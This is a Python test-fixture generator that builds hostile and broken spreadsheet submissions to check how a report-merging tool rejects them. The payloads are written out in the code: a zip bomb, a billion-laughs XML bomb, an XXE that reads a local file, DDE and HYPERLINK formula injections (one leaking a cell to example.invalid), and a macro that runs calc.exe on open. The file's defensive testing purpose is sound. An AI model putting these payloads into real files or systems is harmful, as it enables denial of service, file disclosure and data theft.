"""Write a folder of hostile and broken submissions, next to a few good forms.

Usage::

    python tests/bad_inputs/make_bad_inputs.py OUT_DIR

`generate(out_dir)` returns ``{file name: expected}`` (= `EXPECTED`) where ``expected`` is

* a merge result (``merged``, ``conflict``, ``skipped``) for files that are not
  rejected, or
* the code of the (first) problem for a rejected file (``encrypted``,
  ``zip_bomb``, ``wrong_period``...): any value not in `RESULTS` means
  "rejected with this problem code".

Every file is built from a real form written by `luoshan_xl.template.write_form`
(except the ones that are not workbooks at all).  The 1.1 GB zip bomb is built
streaming (about 1 MB on disk) and kept if it already exists in ``out_dir``.
The merge is meant to be run with ``--period 2019-08``.
"""

from __future__ import annotations

import io
import re
import struct
import sys
import tempfile
import zipfile
from pathlib import Path

import openpyxl

from luoshan_xl.roster import Roster
from luoshan_xl.template import write_form

MiB = 1024 * 1024
PERIOD = "2019-08"

RESULTS = {"merged", "replaced", "duplicate", "conflict", "skipped"}
# Problem codes raised by the container gate (container.py) for the whole file.
CONTAINER_CODES = {"empty", "not_spreadsheet", "html_table", "corrupt_zip", "corrupt_xml", "zip_bomb",
                   "unsafe_xml", "too_many_cells", "cell_too_long", "encrypted", "too_large"}

# The text the XXE form tries to pull into a cell; it must never reach any output.
XXE_MARKER = "LUOSHAN-XXE-MARKER-6b1f0c"

# Account names a clerk's spreadsheet program must never run as formulas.
INJECTIONS = (
    "=1+2",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点这里")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
)

# Good forms: file → (unit, disclosure, portal) as the master must show them.
GOOD_FORMS: dict[str, tuple[str, int | None, int | None]] = {
    "2019-08_宝城街道.xlsx": ("宝城街道", 21, 4),
    "2019-08_庙仙乡.xlsx": ("庙仙乡", 0, 0),
    "2019-08_山店乡.xlsx": ("山店乡", 7, None),
    "（修改版） 朱堂乡.xlsx": ("朱堂乡", 12, 3),
    "=1+1 东铺镇.xlsx": ("东铺镇", 5, 1),
    "公式注入_尤店乡.xlsx": ("尤店乡", 9, 2),
    "宏_铁铺镇.xlsm": ("铁铺镇", 8, 2),
    "合并单元格_潘新镇.xlsx": ("潘新镇", 12, None),  # B6:E7 merged: only the top-left B6 is kept
    "工作表改名_彭新镇.xlsx": ("彭新镇", 6, 6),
    "工作表改名未更新名称_周党镇.xlsx": ("周党镇", 4, 4),
    "工作表顺序_丽水街道.xlsx": ("丽水街道", 3, 1),
    "隐藏工作表_龙山街道.xlsx": ("龙山街道", 11, 5),
}

BOMB_NAME = "压缩炸弹.xlsx"
LYING_NAME = "谎报大小.xlsx"
DIMENSION_NAME = "超大范围.xlsx"
LAUGHS_NAME = "实体炸弹.xlsx"
XXE_NAME = "外部实体.xlsx"
ENCRYPTED_NAME = "加密.xlsx"
UNCACHED_NAME = "无缓存公式_竹竿镇.xlsx"
LONG_CELL_NAME = "超长单元格_高店乡.xlsx"
DELETED_NAME = "删除填报表_莽张镇.xlsx"
WRONG_PERIOD_NAME = "错月份_定远乡.xlsx"
UNKNOWN_UNIT_NAME = "未知单位.xlsx"
CONFLICT_NAMES = ("青山镇_第一版.xlsx", "青山镇_第二版.xlsx")
LOCK_NAME = "~$朱堂乡.xlsx"
HIDDEN_DECOY_UNIT = "财政局"  # only in the hidden sheet of 隐藏工作表_龙山街道.xlsx

# What `generate` writes: file → expected merge result, or the problem code of a rejected file.
EXPECTED: dict[str, str] = {
    **{name: "merged" for name in GOOD_FORMS},
    "空文件.xlsx": "empty",  # 0 bytes
    "文本改名.xlsx": "not_spreadsheet",  # a CSV text renamed .xlsx
    "网页表格.xls": "html_table",  # an HTML table renamed .xls
    ENCRYPTED_NAME: "encrypted",  # OLE2 with EncryptionInfo / EncryptedPackage
    "截断.xlsx": "corrupt_zip",  # first half of a form
    "CRC错误.xlsx": "corrupt_zip",  # xl/workbook.xml intact, its CRC-32 wrong
    BOMB_NAME: "zip_bomb",  # sheet1.xml inflates to 1.1 GB (about 1 MB on disk)
    LYING_NAME: "zip_bomb",  # sheet1.xml declares 8 KB, inflates to 100 MB
    DIMENSION_NAME: "too_many_cells",  # <dimension ref="A1:XFD1048576"/>
    LAUGHS_NAME: "unsafe_xml",  # billion laughs in sharedStrings.xml
    XXE_NAME: "unsafe_xml",  # external entity (a local file) in the unit-name cell
    LONG_CELL_NAME: "cell_too_long",  # a 40,000-character account name
    UNCACHED_NAME: "formula_no_value",  # B6 = '=1+2' saved by openpyxl, no cached value
    DELETED_NAME: "unknown_layout",  # 填报表 deleted: names are #REF!, only 填报说明 left
    WRONG_PERIOD_NAME: "wrong_period",  # 2019-07 while merging --period 2019-08
    UNKNOWN_UNIT_NAME: "unknown_unit",  # 朱堂镇 (the roster has 朱堂乡)
    CONFLICT_NAMES[0]: "conflict",  # two different forms of 青山镇 2019-08
    CONFLICT_NAMES[1]: "conflict",
    LOCK_NAME: "skipped",  # the owner file WPS/Excel leave beside an open workbook
}


# ---------------------------------------------------------------- zip helpers


def members(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [(i.filename, zf.read(i)) for i in zf.infolist()]


def rezip(data: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None) -> bytes:
    """The same zip with some members rewritten (order kept) or added at the end."""
    replace = dict(replace or {})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in members(data):
            zf.writestr(name, replace.pop(name, body))
        for name, body in {**replace, **(add or {})}.items():
            zf.writestr(name, body)
    return out.getvalue()


def member(data: bytes, name: str) -> bytes:
    return dict(members(data))[name]


def _patch_headers(data: bytes, name: str, local_off: int, central_off: int, value: int) -> bytes:
    """Overwrite one uint32 field of ``name``'s local and central headers."""
    buf = bytearray(data)
    raw = name.encode()
    patched = 0
    for sig, name_len_at, name_at, field in ((b"PK\x03\x04", 26, 30, local_off),
                                              (b"PK\x01\x02", 28, 46, central_off)):
        pos = 0
        while (pos := buf.find(sig, pos)) >= 0:
            n = struct.unpack_from("<H", buf, pos + name_len_at)[0]
            if bytes(buf[pos + name_at : pos + name_at + n]) == raw:
                struct.pack_into("<I", buf, pos + field, value)
                patched += 1
            pos += 4
    assert patched == 2, patched
    return bytes(buf)


def patch_size(data: bytes, name: str, size: int) -> bytes:
    """Make ``name`` lie about its uncompressed size (both headers)."""
    return _patch_headers(data, name, 22, 24, size)


def patch_crc(data: bytes, name: str, crc: int) -> bytes:
    """Give ``name`` a wrong CRC-32 (both headers); its data stay intact."""
    return _patch_headers(data, name, 14, 16, crc)


def stream_member(path: Path, base: bytes, name: str, head: bytes, filler: bytes, size: int, tail: bytes) -> None:
    """Write ``base`` to ``path`` with member ``name`` = head + filler*... (``size`` bytes) + tail, in chunks."""
    chunk = (filler * (MiB // len(filler) + 1))[:MiB]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for n, body in members(base):
            if n != name:
                zf.writestr(n, body)
                continue
            with zf.open(n, "w") as fh:
                fh.write(head)
                left = size
                while left > 0:
                    fh.write(chunk[: min(left, MiB)])
                    left -= MiB
                fh.write(tail)


# ---------------------------------------------------------------- OLE2 (copied from tests/test_container.py)


def build_ole(streams: dict[str, bytes]) -> bytes:
    """A minimal valid OLE2 compound file (v3, 512-byte sectors).

    Streams of 4096 bytes or more go to regular sectors, smaller ones to the
    mini stream, as the specification requires.
    """
    ssz, mini, cutoff = 512, 64, 4096
    endc, free, fatsect, nostream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    names = list(streams)
    n_dir_sectors = -(-(len(names) + 1) // 4)
    fat = [fatsect]  # sector 0 is the FAT
    sectors: list[bytes] = [b""]

    def alloc(body: bytes) -> int:
        count = max(1, -(-len(body) // ssz))
        first = len(sectors)
        for i in range(count):
            sectors.append(body[i * ssz : (i + 1) * ssz].ljust(ssz, b"\0"))
            fat.append(first + i + 1 if i < count - 1 else endc)
        return first

    dir_first = len(sectors)
    for _ in range(n_dir_sectors):  # placeholders, filled below
        sectors.append(b"")
        fat.append(len(sectors) if _ < n_dir_sectors - 1 else endc)

    starts: dict[str, int] = {}
    mini_stream = b""
    minifat: list[int] = []
    for n in names:
        body = streams[n]
        if len(body) >= cutoff:
            starts[n] = alloc(body)
        else:
            count = max(1, -(-len(body) // mini))
            first = len(mini_stream) // mini
            mini_stream += body.ljust(count * mini, b"\0")
            minifat.extend(first + i + 1 if i < count - 1 else endc for i in range(count))
            starts[n] = first
    root_start, minifat_start, n_minifat = endc, endc, 0
    if mini_stream:
        root_start = alloc(mini_stream)
        raw = struct.pack(f"<{len(minifat)}I", *minifat)
        minifat_start = alloc(raw.ljust(ssz, b"\xff"))
        n_minifat = 1

    def entry(name: str, etype: int, child: int, right: int, start: int, size: int) -> bytes:
        raw_name = (name + "\0").encode("utf-16-le")
        return (
            raw_name.ljust(64, b"\0")
            + struct.pack("<HBBIII", len(raw_name), etype, 1, nostream, right, child)
            + bytes(16 + 4 + 16)
            + struct.pack("<III", start, size, 0)
        )

    entries = [entry("Root Entry", 5, 1 if names else nostream, nostream, root_start, len(mini_stream))]
    for i, n in enumerate(names, start=1):
        entries.append(
            entry(n, 2, nostream, i + 1 if i < len(names) else nostream, starts[n], len(streams[n]))
        )
    dir_raw = b"".join(entries).ljust(n_dir_sectors * ssz, b"\0")
    for i in range(n_dir_sectors):
        sectors[dir_first + i] = dir_raw[i * ssz : (i + 1) * ssz]
    assert len(fat) <= ssz // 4
    sectors[0] = struct.pack(f"<{len(fat)}I", *fat).ljust(ssz, b"\xff")
    difat = [0] + [free] * 108
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII109I",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        bytes(16),
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        bytes(6),
        0,
        1,
        dir_first,
        0,
        cutoff,
        minifat_start,
        n_minifat,
        endc,
        0,
        *difat,
    )
    return header + b"".join(sectors)


def encrypted_workbook() -> bytes:
    """What Excel/WPS save for a password-protected .xlsx: an OLE2 file with EncryptionInfo."""
    info = (b"\x04\x00\x04\x00\x40\x00\x00\x00"  # agile encryption, version 4.4
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            b'<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption">'
            b'<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" '
            b'cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/>'
            b"</encryption>")
    package = struct.pack("<Q", 6000) + bytes(range(256)) * 24
    return build_ole({"EncryptionInfo": info, "EncryptedPackage": package})


# ---------------------------------------------------------------- building forms


def _xml_decl_end(xml: bytes) -> int:
    return xml.index(b"?>") + 2


def _billion_laughs(sst: bytes) -> bytes:
    entities = b'<!DOCTYPE sst [\n <!ENTITY lol "lol">\n' + b"".join(
        b' <!ENTITY lol%d "%s">\n' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)
    ) + b"]>"
    end = _xml_decl_end(sst)
    body = sst[end:].replace("宝城街道".encode(), b"&lol9;", 1)
    assert b"&lol9;" in body
    return sst[:end] + entities + body


def _xxe_sheet(sheet: bytes, secret: Path) -> bytes:
    doctype = f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "{secret.resolve().as_uri()}">]>'.encode()
    end = _xml_decl_end(sheet)
    body, n = re.subn(rb'<c r="B4"([^>]*?) t="s"><v>\d+</v></c>',
                      rb'<c r="B4"\1 t="inlineStr"><is><t>&xxe;</t></is></c>', sheet[end:])
    assert n == 1
    return sheet[:end] + doctype + body


def _macro_enabled(form: bytes) -> bytes:
    ct = member(form, "[Content_Types].xml")
    ct = ct.replace(b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml")
    ct = ct.replace(b"<Default Extension=\"xml\"",
                    b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                    b"<Default Extension=\"xml\"")
    rels = member(form, "xl/_rels/workbook.xml.rels")
    rels = rels.replace(b"</Relationships>",
                        b'<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/relationships/'
                        b'vbaProject" Target="vbaProject.bin"/></Relationships>')
    # A VBA project whose Workbook_Open would write a file; it is never run, nor kept.
    vba = build_ole({"PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisWorkbook/&H00000000\r\n',
                     "dir": b"\x01" + bytes(200),
                     "ThisWorkbook": b"Private Sub Workbook_Open()\r\n  Shell \"calc.exe\"\r\nEnd Sub\r\n"})
    assert b"macroEnabled" in ct
    return rezip(form, {"[Content_Types].xml": ct, "xl/_rels/workbook.xml.rels": rels},
                 add={"xl/vbaProject.bin": vba})


def _rename_sheet_like_excel(form: bytes, new: str) -> bytes:
    """Excel renames the sheet and every reference to it in the defined names."""
    wb = member(form, "xl/workbook.xml").decode()
    wb = wb.replace('name="填报表"', f'name="{new}"').replace("'填报表'!", f"'{new}'!").replace("填报表!", f"{new}!")
    return rezip(form, {"xl/workbook.xml": wb.encode()})


def _with_openpyxl(src: Path, dst: Path, edit) -> bytes:
    wb = openpyxl.load_workbook(src)
    edit(wb)
    wb.save(dst)
    return dst.read_bytes()


def generate(out_dir: Path, secret_file: Path | None = None) -> dict[str, str]:
    """Write every file into ``out_dir``; return {file name: expected result or problem code}.

    ``secret_file`` is what the XXE form points at (created with `XXE_MARKER`);
    by default ``<out_dir>.secret.txt`` beside the folder (not inside it).
    """
    out_dir = Path(out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    if secret_file is None:
        secret_file = out_dir.with_name(out_dir.name + ".secret.txt")
    secret_file = Path(secret_file)
    secret_file.write_text(XXE_MARKER + "\n", encoding="utf-8")
    roster = Roster.default()
    written: set[str] = set()

    with tempfile.TemporaryDirectory() as scratch_dir:
        scratch = Path(scratch_dir)
        counter = iter(range(10**6))

        def form(unit: str, disclosure: int | None = 12, portal: int | None = 3, period: str = PERIOD,
                 accounts: list[list] | None = None) -> Path:
            path = scratch / f"form{next(counter)}.xlsx"
            values = {"unit_name": unit, "period": period, "disclosure_count": disclosure, "portal_adopted": portal}
            write_form(path, roster, values=values, accounts=accounts or [])
            return path

        def put(name: str, data: bytes) -> None:
            (out_dir / name).write_bytes(data)
            written.add(name)

        def good(name: str, accounts: list[list] | None = None) -> Path:
            unit, disclosure, portal = GOOD_FORMS[name]
            return form(unit, disclosure, portal, accounts=accounts)

        # -- good forms, written as the template writes them
        put("2019-08_宝城街道.xlsx",
            good("2019-08_宝城街道.xlsx", [["宝城街道发布", "微信公众号", None, "2019-08-28", 20]]).read_bytes())
        for name in ("2019-08_庙仙乡.xlsx", "2019-08_山店乡.xlsx", "（修改版） 朱堂乡.xlsx", "=1+1 东铺镇.xlsx"):
            put(name, good(name).read_bytes())
        injection_accounts = [[text, platform, None, "2019-08-20", 15 + i]
                              for i, (text, platform) in enumerate(zip(INJECTIONS, ("微信公众号", "微博", "抖音",
                                                                                    "今日头条", "快手", "视频号"),
                                                                       strict=True))]
        put("公式注入_尤店乡.xlsx", good("公式注入_尤店乡.xlsx", injection_accounts).read_bytes())
        put("宏_铁铺镇.xlsm", _macro_enabled(good("宏_铁铺镇.xlsm").read_bytes()))

        def merge_inputs(wb):
            ws = wb["填报表"]
            ws.unmerge_cells("B6:E6")
            ws.unmerge_cells("B7:E7")
            ws.merge_cells("B6:E7")

        src = form("潘新镇", 12, 3)  # portal 3 is in B7, under the merge: gone, as in Excel
        put("合并单元格_潘新镇.xlsx", _with_openpyxl(src, scratch / "merged.xlsx", merge_inputs))
        put("工作表改名_彭新镇.xlsx",
            _rename_sheet_like_excel(good("工作表改名_彭新镇.xlsx").read_bytes(), "八月报表"))

        def rename_only(wb):
            wb["填报表"].title = "Sheet1"  # openpyxl leaves the defined names pointing at '填报表'

        put("工作表改名未更新名称_周党镇.xlsx",
            _with_openpyxl(good("工作表改名未更新名称_周党镇.xlsx"), scratch / "renamed.xlsx", rename_only))

        def reorder(wb):
            wb.move_sheet("填报表", offset=1)
            wb.active = wb.sheetnames.index("填报表")

        put("工作表顺序_丽水街道.xlsx",
            _with_openpyxl(good("工作表顺序_丽水街道.xlsx"), scratch / "reorder.xlsx", reorder))

        def hidden_decoy(wb):
            ws = wb.create_sheet("数据", 0)
            ws.append(["期间", "单位名称", "信息公开发布数量", "门户网站采用数量"])
            ws.append([PERIOD, HIDDEN_DECOY_UNIT, 999, 999])
            ws["A5"], ws["B5"] = "单位名称", HIDDEN_DECOY_UNIT
            ws["A6"], ws["B6"] = "本月政府信息公开发布数量（条）", 999
            ws.sheet_state = "hidden"
            wb.active = wb.sheetnames.index("填报表")

        put("隐藏工作表_龙山街道.xlsx",
            _with_openpyxl(good("隐藏工作表_龙山街道.xlsx"), scratch / "hidden.xlsx", hidden_decoy))

        # -- not workbooks at all
        base = form("高店乡").read_bytes()
        put("空文件.xlsx", b"")
        put("文本改名.xlsx", "单位名称,信息公开发布数量\n高店乡,12\n".encode("gb18030"))
        put("网页表格.xls",
            ('<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><meta charset="utf-8"></head>'
             "<body><table><tr><td>单位名称</td><td>高店乡</td></tr><tr><td>报送期间</td><td>2019-08</td></tr>"
             "</table></body></html>").encode())
        put(ENCRYPTED_NAME, encrypted_workbook())

        # -- broken zips
        put("截断.xlsx", base[: len(base) // 2])
        crc = zipfile.ZipFile(io.BytesIO(base)).getinfo("xl/workbook.xml").CRC
        put("CRC错误.xlsx", patch_crc(base, "xl/workbook.xml", crc ^ 0x5A5A5A5A))

        # -- bombs
        sheet = member(base, "xl/worksheets/sheet1.xml")
        split = sheet.index(b"<sheetData>") + len(b"<sheetData>")
        head, tail = sheet[:split], sheet[split:]
        bomb = out_dir / BOMB_NAME
        if not bomb.exists() or bomb.stat().st_size < 512 * 1024:
            tmp = out_dir / (BOMB_NAME + ".part")  # not a spreadsheet suffix, and renamed when complete
            stream_member(tmp, base, "xl/worksheets/sheet1.xml", head, b" ", 1100 * MiB, tail)
            tmp.replace(bomb)
        written.add(BOMB_NAME)
        lying = scratch / "lying.xlsx"
        stream_member(lying, base, "xl/worksheets/sheet1.xml", head, b"<!-- -->", 100 * MiB, tail)
        put(LYING_NAME, patch_size(lying.read_bytes(), "xl/worksheets/sheet1.xml", len(sheet)))
        dim = sheet.replace(b'<dimension ref="A1:E30"/>', b'<dimension ref="A1:XFD1048576"/>')
        assert dim != sheet
        put(DIMENSION_NAME, rezip(base, {"xl/worksheets/sheet1.xml": dim}))

        # -- unsafe XML
        put(LAUGHS_NAME, rezip(base, {"xl/sharedStrings.xml": _billion_laughs(member(base, "xl/sharedStrings.xml"))}))
        put(XXE_NAME, rezip(base, {"xl/worksheets/sheet1.xml": _xxe_sheet(sheet, secret_file)}))

        # -- a 40,000-character cell (xlsxwriter truncates at 32,767, so the shared string is rewritten)
        placeholder = "超长账号名称占位"
        long_form = form("高店乡", accounts=[[placeholder, "微博", None, "2019-08-20", 9]]).read_bytes()
        sst = member(long_form, "xl/sharedStrings.xml")
        assert placeholder.encode() in sst
        put(LONG_CELL_NAME, rezip(long_form, {"xl/sharedStrings.xml": sst.replace(placeholder.encode(),
                                                                                   ("长" * 40000).encode())}))

        # -- readable workbooks with the wrong content
        def uncached(wb):
            wb["填报表"]["B6"] = "=1+2"  # openpyxl writes <f>1+2</f><v/>: no cached value

        put(UNCACHED_NAME, _with_openpyxl(form("竹竿镇"), scratch / "uncached.xlsx", uncached))

        def delete_form_sheet(wb):
            del wb["填报表"]

        deleted = _with_openpyxl(form("莽张镇"), scratch / "deleted.xlsx", delete_form_sheet)
        # Excel turns references to a deleted sheet into #REF!
        wbxml = member(deleted, "xl/workbook.xml").replace("'填报表'!".encode(), b"#REF!")
        put(DELETED_NAME, rezip(deleted, {"xl/workbook.xml": wbxml}))
        put(WRONG_PERIOD_NAME, form("定远乡", 3, 3, period="2019-07").read_bytes())
        put(UNKNOWN_UNIT_NAME, form("朱堂镇", 3, 3).read_bytes())
        put(CONFLICT_NAMES[0], form("青山镇", 10, 1).read_bytes())
        put(CONFLICT_NAMES[1], form("青山镇", 11, 1).read_bytes())

        # -- the owner file WPS/Excel leave beside a workbook they have open
        put(LOCK_NAME, (b"\x05clerk" + bytes(48) + "办公室".encode("utf-16-le")).ljust(165, b"\0"))
    assert written == set(EXPECTED), written ^ set(EXPECTED)
    return dict(EXPECTED)


def main(argv: list[str]) -> int:
    if len(argv) != 2:
        print(f"usage: {argv[0]} OUT_DIR", file=sys.stderr)
        return 2
    expected = generate(Path(argv[1]))
    width = max(len(n) for n in expected)
    for name, result in expected.items():
        print(f"{name:<{width}}  {result}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
